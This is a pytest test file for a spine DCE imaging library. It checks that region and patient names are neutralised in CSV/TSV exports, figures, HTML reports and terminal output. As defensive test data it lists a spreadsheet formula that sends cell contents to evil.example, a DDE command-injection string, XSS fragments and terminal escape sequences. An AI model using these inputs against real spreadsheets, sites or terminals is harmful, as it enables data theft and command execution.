"""Names are text everywhere: no formula, no typesetting, no markup, no control of the terminal."""

import csv
import os
import socket
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from small_study import SHAPE, write_small_study
from SpineDCELib.cli import main
from SpineDCELib.cohort.bids_derivative import write_tsv
from SpineDCELib.cohort.cohort_table import read_rows
from SpineDCELib.errors import InputError
from SpineDCELib.export.csv_tables import write_table
from SpineDCELib.files.text_cells import cell_text, figure_text, text_cell
from SpineDCELib.series import Geometry, read_segmentation, write_segmentation

HOSTILE = Path(__file__).parent / "hostile" / "region-names"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1)",
            "-2+3", "\t=1+1", " =1+1", "'=1+1", "＝1+1"]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_table_is_a_formula(text, tmp_path):
    path = tmp_path / "table.csv"
    write_table(path, ["region", f"{text} [mM]"], [[text, -2.5], ["-2.5", 1.0]])
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    for cell in (rows[0][1], rows[1][0]):
        assert cell.startswith("'")
        assert not cell.lstrip().startswith(("=", "+", "-", "@"))
    # Numbers stay numbers, also where they were text.
    assert rows[1][1] == "-2.5"
    assert rows[2][0] == "-2.5"
    assert cell_text(rows[1][0]) == text
    write_tsv(tmp_path / "participants.tsv", [{"participant_id": text, "vp": -2.5}])
    line = (tmp_path / "participants.tsv").read_text().splitlines()[1].split("\t")
    assert not line[0].lstrip().startswith(("=", "+", "-", "@"))
    assert line[1] == "-2.5"


@given(st.text())
def test_the_mark_of_a_cell_is_taken_off_again(text):
    plain = text.replace("\x00", "")
    assert cell_text(text_cell(text)) == plain


def test_the_reader_of_a_cohort_takes_the_mark_off(tmp_path):
    rows = [["=A()", "one", "-87.5"], ["'quoted'", "two", "3"]]
    write_table(tmp_path / "cohort.csv", ["patient", "group", "Vp change"], rows)
    found = read_rows(tmp_path / "cohort.csv")
    assert [row["patient"] for row in found] == ["=A()", "'quoted'"]
    assert [row["Vp change"] for row in found] == ["-87.5", "3"]


@pytest.mark.parametrize("text", [r"$\frac{1}{$", "$x", "$a$", r"$\notacommand$", "_hidden", "$$"])
def test_a_figure_shows_a_name_as_it_is(text):
    pytest.importorskip("matplotlib")
    from matplotlib.backends.backend_agg import FigureCanvasAgg
    from matplotlib.cbook import is_math_text
    from matplotlib.figure import Figure

    figure = Figure()
    ax = figure.subplots()
    ax.plot([0, 1], label=figure_text(text))
    legend = ax.legend()
    FigureCanvasAgg(figure).draw()
    assert len(legend.get_texts()) == 1
    shown = legend.get_texts()[0].get_text()
    assert not is_math_text(shown)
    assert shown.replace(r"\$", "$").strip("\u200b") == text


@pytest.fixture(scope="module")
def study(tmp_path_factory):
    return write_small_study(tmp_path_factory.mktemp("text") / "study")


def regions_named(study, path, names):
    """Write the regions of the small study under other names."""
    found = read_segmentation(study.regions)
    masks = dict(zip(names, found.masks.values(), strict=False))
    write_segmentation(path, masks, found.geometry)
    return path


@pytest.mark.long
@pytest.mark.parametrize("file", sorted(HOSTILE.iterdir()), ids=lambda p: p.stem)
def test_names_of_regions_are_text_in_every_export(file, study, tmp_path):
    pytest.importorskip("matplotlib")
    grid = read_segmentation(study.regions).geometry
    found = read_segmentation(file)
    masks, kinds = {}, [np.s_[0, 1:4, 2:6], np.s_[1, 2:5, 3:7]]
    for name, place in zip(found.masks, kinds, strict=False):
        masks[name] = np.zeros(SHAPE, bool)
        masks[name][place] = True
    write_segmentation(tmp_path / "roi.seg.nrrd", masks, grid)
    out = tmp_path / "out"
    command = [
        "analyse", str(study.series), "-o", str(out), "--aif-mask", str(study.artery),
        "--t10", "800", "--roi", str(tmp_path / "roi.seg.nrrd"), "--export", "report",
    ]  # fmt: skip
    assert main(command) == 0
    with (out / "measurements.csv").open(newline="", encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    names = [cell_text(row["region"]) for row in rows]
    assert set(masks) <= set(names)
    assert not any(row["region"].startswith(("=", "+", "@")) for row in rows)
    report = next(out.glob("report*.html")).read_text(encoding="utf-8")
    for active in ("<script>alert", "<img src=x", "onerror=alert(1)>"):
        assert active not in report
    inside = {p.resolve() for p in tmp_path.rglob("*")}
    assert all(path.is_relative_to(tmp_path) for path in inside)


def test_control_characters_of_a_name_do_not_reach_the_terminal(tmp_path, capsys):
    path = tmp_path / "evil\x1b]0;title\x07\x1b[2J.nrrd"
    path.write_bytes(b"NRRD0004\n\n")
    main(["info", str(path)])
    assert main(["analyse", str(tmp_path / "none\x1b[2J"), "-o", str(tmp_path / "out")]) != 0
    printed = capsys.readouterr()
    assert "\x1b" not in printed.err + printed.out
    grid = Geometry((1, 2, 2), np.eye(4))
    write_segmentation(tmp_path / "a.seg.nrrd", {"a\x1b[2Jb": np.ones((1, 2, 2), bool)}, grid)
    assert "\x1b" not in "".join(read_segmentation(tmp_path / "a.seg.nrrd").masks)


def spinedce(*arguments, **options):
    environment = {
        k: v for k, v in os.environ.items() if not k.startswith(("LC_", "LANG", "PYTHONUNB"))
    }
    environment |= {"PYTHONPATH": os.pathsep.join(sys.path)} | options.pop("env", {})
    return subprocess.run(
        [sys.executable, "-m", "SpineDCELib.cli", *map(str, arguments)],
        env=environment, check=False, timeout=120, **options,
    )  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "utf-8"])
def test_a_terminal_that_lacks_characters_stops_nothing(encoding, study, tmp_path):
    folder = Path(os.fsdecode(bytes(tmp_path) + b"/caf\xe9"))
    folder.mkdir()
    (folder / "dynamic.nrrd").write_bytes(study.series.read_bytes())
    told = spinedce("info", folder, env={"PYTHONIOENCODING": encoding}, capture_output=True)
    assert told.returncode == 0, told.stderr
    assert b"60" in told.stdout
    told = spinedce(
        "info", os.fsencode(folder / "none").decode("utf-8", "surrogateescape"),
        env={"PYTHONIOENCODING": encoding}, capture_output=True,
    )  # fmt: skip
    assert told.returncode == 2
    assert told.stderr.startswith(b"spinedce: ")
    assert b"Traceback" not in told.stderr


def test_a_closed_pipe_is_no_error(study):
    read, write = os.pipe()
    os.close(read)
    try:
        told = spinedce("info", study.series, stdout=write, stderr=subprocess.PIPE)
    finally:
        os.close(write)
    assert told.returncode == 0
    assert told.stderr == b""


def test_a_port_in_use_is_a_message():
    pytest.importorskip("trame", reason="the workstation's packages are missing")
    from SpineDCEWidget.browser.start import run

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        for port in (taken.getsockname()[1], 99999, -1):
            with pytest.raises(InputError) as caught:
                run(port=port)
            assert caught.value.code == "port_in_use"
            assert str(port) in str(caught.value)
